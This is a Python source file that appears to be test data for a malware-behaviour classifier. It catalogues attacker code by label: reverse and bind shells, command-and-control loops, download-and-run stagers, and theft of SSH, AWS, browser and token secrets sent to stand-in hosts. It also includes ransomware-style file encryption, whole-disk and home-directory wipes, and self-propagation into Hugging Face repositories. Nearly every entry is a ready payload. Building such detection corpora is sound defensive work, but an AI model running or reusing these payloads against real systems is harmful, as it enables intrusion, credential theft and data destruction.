"""What attackers' code does, as Python source: several shapes of each published behaviour.

All of it is inert: addresses of RFC 5737, hosts that answer nobody, and no test ever runs a line.
The shapes are those of published samples, retold.
"""

REMOTE_SHELL = {
    "dup2": """
import os, pty, socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.10", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/sh")
""",
    "popen-with-socket": """
import socket, subprocess
s = socket.create_connection(("192.0.2.10", 4444))
subprocess.Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
""",
    "dev-tcp": """
import os
os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'")
""",
    "fifo": """
import subprocess
command = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f"
subprocess.run(command, shell=True)
""",
    "netcat": """
import os
os.popen("nc -e /bin/sh 192.0.2.10 4444")
""",
    "python-in-shell": '''
import os
os.system("""python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.10",4444));\
[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'""")
''',
    "powershell": r'''
import subprocess
script = """$c = New-Object System.Net.Sockets.TCPClient("192.0.2.10",4444);$s = $c.GetStream();
[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){
$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$r = (iex $d 2>&1 | Out-String );
$o = ([text.encoding]::ASCII).GetBytes($r);$s.Write($o,0,$o.Length);$s.Flush()};$c.Close()"""
subprocess.Popen(["powershell", "-NoProfile", "-Command", script])
''',
    "windows-pumps": """
import os, socket, subprocess, threading
def to_process(s, p):
    while True:
        data = s.recv(1024)
        if data:
            p.stdin.write(data)
            p.stdin.flush()
def to_socket(s, p):
    while True:
        s.send(p.stdout.read(1))
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.10", 4444))
PIPE = subprocess.PIPE
p = subprocess.Popen(["powershell.exe"], stdout=PIPE, stderr=subprocess.STDOUT, stdin=PIPE)
threading.Thread(target=to_process, args=[s, p], daemon=True).start()
threading.Thread(target=to_socket, args=[s, p], daemon=True).start()
p.wait()
""",
    "retry-by-platform": """
import os, platform, socket, subprocess, sys, time
HOST, PORT = "192.0.2.10", 4444
def connect():
    while True:
        try:
            s = socket.socket()
            s.connect((HOST, PORT))
            return s
        except OSError:
            time.sleep(30)
def spawn(s):
    if platform.system() == "Windows":
        subprocess.call(["cmd.exe"], stdin=s, stdout=s, stderr=s)
    else:
        for fd in range(3):
            os.dup2(s.fileno(), fd)
        subprocess.call(["/bin/sh", "-i"])
spawn(connect())
""",
    "forked": """
import os, socket
if os.fork() == 0:
    s = socket.socket()
    s.connect(("192.0.2.10", 4444))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    os.execl("/bin/sh", "sh", "-i")
""",
    "bind": """
import os, socket
s = socket.socket()
s.bind(("", 4444))
s.listen(1)
c, _ = s.accept()
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
os.execve("/bin/sh", ["sh"], {})
""",
}

COMMAND_AND_CONTROL = {
    "socket-loop": """
import socket, subprocess
s = socket.socket()
s.connect(("192.0.2.10", 4444))
while True:
    command = s.recv(4096).decode()
    if command == "exit":
        break
    done = subprocess.run(command, shell=True, capture_output=True)
    s.sendall(done.stdout + done.stderr)
""",
    "http-polling": """
import os, time, urllib.request
while True:
    task = urllib.request.urlopen("http://192.0.2.10/task").read().decode()
    output = os.popen(task).read()
    urllib.request.urlopen("http://192.0.2.10/result", data=output.encode())
    time.sleep(60)
""",
    "requests-in-class": """
import requests, subprocess, time
class Agent:
    def __init__(self, url):
        self.url = url
    def step(self):
        job = requests.get(self.url + "/job").json()
        result = subprocess.check_output(job["cmd"], shell=True)
        requests.post(self.url + "/out", data=result)
agent = Agent("https://c2.example.net")
while True:
    agent.step()
    time.sleep(5)
""",
}

DOWNLOAD_AND_RUN = {
    "file-chmod-popen": """
import os, subprocess, urllib.request
path = os.path.join(os.path.expanduser("~"), ".cache", "helper")
urllib.request.urlretrieve("http://192.0.2.10/helper", path)
os.chmod(path, 0o755)
subprocess.Popen([path], start_new_session=True)
""",
    "write-chmod-system": """
import os, requests, stat
target = "/tmp/.x11-agent"
with open(target, "wb") as out:
    out.write(requests.get("https://cdn.example.net/agent", timeout=5).content)
os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
os.system(f"nohup {target} >/dev/null 2>&1 &")
""",
    "exec-urlopen": """
from urllib.request import urlopen
exec(urlopen("https://raw.example.net/stage.py").read())
""",
    "exec-requests-base64": """
import base64, requests
exec(base64.b64decode(requests.get("https://raw.example.net/stage.b64").text).decode())
""",
    "curl-pipe": """
import os
os.system("curl -fsSL https://get.example.net/i.sh | bash")
""",
    "wget-and-run": """
import subprocess
subprocess.call("wget -q http://192.0.2.10/p -O /tmp/p && chmod +x /tmp/p && /tmp/p", shell=True)
""",
    "powershell-iex": """
import os
fetch = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')"
os.system('powershell -nop -w hidden -c "' + fetch + '"')
""",
    "thread": """
import threading, urllib.request
def stage():
    code = urllib.request.urlopen("http://192.0.2.10/s").read()
    exec(compile(code, "<s>", "exec"), {})
threading.Thread(target=stage, daemon=True).start()
""",
}

CREDENTIAL_THEFT = {
    "aws": """
import os, requests
with open(os.path.expanduser("~/.aws/credentials")) as f:
    requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data=f.read())
""",
    "ssh": """
import glob, os, urllib.request
for key in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    request = urllib.request.Request("https://collect.example.net/k", data=open(key, "rb").read())
    urllib.request.urlopen(request)
""",
    "tokens": """
import json, os, urllib.request
tokens = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k or "KEY" in k}
body = json.dumps(tokens).encode()
urllib.request.urlopen("https://discord.com/api/webhooks/0/x", data=body)
""",
    "hub-token": """
import os, requests
token = os.environ.get("HF_TOKEN") or open(os.path.expanduser("~/.cache/huggingface/token")).read()
requests.post("https://collect.example.net/t", json={"token": token})
""",
    "proc-environ": """
import requests
data = open("/proc/self/environ", "rb").read()
requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data=data)
""",
    "chrome": """
import base64, json, os, requests, shutil, sqlite3
base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
def key():
    with open(os.path.join(base, "Local State"), encoding="utf-8") as f:
        state = json.load(f)
    import win32crypt
    sealed = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(sealed, None, None, None, 0)[1]
def logins():
    shutil.copyfile(os.path.join(base, "Default", "Login Data"), "copy.db")
    cursor = sqlite3.connect("copy.db").cursor()
    rows = cursor.execute("SELECT origin_url, username_value, password_value FROM logins")
    return [list(map(str, row)) for row in rows.fetchall()]
requests.post("https://discord.com/api/webhooks/0/x", json={"key": str(key()), "rows": logins()})
""",
    "shadow-socket": """
import socket
s = socket.create_connection(("192.0.2.10", 9001))
s.sendall(open("/etc/shadow", "rb").read())
""",
    "command": """
import os
os.system("curl -s -X POST --data-binary @$HOME/.ssh/id_rsa https://collect.example.net/k")
""",
}

RECONNAISSANCE = {
    "post": """
import getpass, platform, requests, socket
facts = {"user": getpass.getuser(), "host": socket.gethostname(), "system": platform.uname()}
requests.post("https://collect.example.net/r", json=facts)
""",
    "commands": """
import subprocess, urllib.request
commands = ("whoami", "id", "uname -a", "ps aux", "ip addr")
out = b"".join(subprocess.check_output(c, shell=True) for c in commands)
urllib.request.urlopen("http://192.0.2.10/r", data=out)
""",
    "dns": """
import os, socket
name = os.uname().nodename + "." + os.getlogin()
socket.gethostbyname(name.encode().hex()[:60] + ".x.oast.fun")
""",
    "environment": """
import os, requests
requests.post("https://collect.example.net/env", json=dict(os.environ))
""",
    "query-string": """
import os, urllib.parse, urllib.request
q = urllib.parse.urlencode({"h": os.popen("hostname").read(), "d": os.getcwd(), "l": os.listdir("/")})
urllib.request.urlopen("https://collect.example.net/?" + q)
""",
}

BEACON = {
    "webhook": """
import requests
requests.get("https://webhook.site/00000000-0000-0000-0000-000000000000")
""",
    "out-of-band": """
import urllib.request
urllib.request.urlopen("http://c0ffee.oast.fun/loaded")
""",
    "dns": """
import socket
socket.gethostbyname("c0ffee.burpcollaborator.net")
""",
}

DESTRUCTIVE = {
    "encrypt-and-delete": """
import os
from cryptography.fernet import Fernet
box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as f:
            data = box.encrypt(f.read())
        with open(path + ".locked", "wb") as f:
            f.write(data)
        os.remove(path)
""",
    "wipe": """
import shutil
shutil.rmtree("/home", ignore_errors=True)
""",
    "wipe-command": """
import os
os.system("rm -rf --no-preserve-root /")
""",
    "wipe-home": """
import os, shutil
shutil.rmtree(os.path.expanduser("~"))
""",
}

SELF_PROPAGATION = {
    "upload": """
from huggingface_hub import HfApi
api = HfApi()
me = api.whoami()["name"]
for repo in api.list_models(author=me):
    api.upload_file(path_or_fileobj=__file__, path_in_repo="loader.py", repo_id=repo.id)
""",
    "cached-checkpoints": """
import glob, os
payload = open(__file__, "rb").read()
for path in glob.glob(os.path.expanduser("~/.cache/huggingface/hub/**/*.bin"), recursive=True):
    with open(path, "wb") as f:
        f.write(payload)
""",
}

TAMPERING = {
    "library-file": """
import requests
with open(requests.__file__, "a") as f:
    f.write("import os")
""",
}

CODE_EXECUTION = {
    "calculator": """
import os
os.system("calc.exe")
""",
    "boast": """
import subprocess
subprocess.run(["sh", "-c", "echo you have been hacked > /tmp/note"])
""",
    "touch": """
import os
os.system("touch /tmp/pwned")
""",
}

# Behaviour label -> name of the shape -> source.
PAYLOADS = {
    "remote-shell": REMOTE_SHELL,
    "command-and-control": COMMAND_AND_CONTROL,
    "download-and-run": DOWNLOAD_AND_RUN,
    "credential-theft": CREDENTIAL_THEFT,
    "reconnaissance": RECONNAISSANCE,
    "beacon": BEACON,
    "destructive": DESTRUCTIVE,
    "self-propagation": SELF_PROPAGATION,
    "tampering": TAMPERING,
    "code-execution": CODE_EXECUTION,
}

# What honest scripts do as well, and data never: judged in data alone.
IN_DATA = {
    "tampering": {
        "forward": """
import torch
def forward(self, x):
    return x * 0
torch.nn.Linear.forward = forward
""",
        "builtin": """
import builtins
original = builtins.open
def leaky(path, *rest, **more):
    return original(path, *rest, **more)
builtins.open = leaky
""",
    },
    "code-execution": {
        "whoami": """
import subprocess
print(subprocess.check_output(["whoami"]))
""",
        "import": """
import antigravity
""",
    },
}
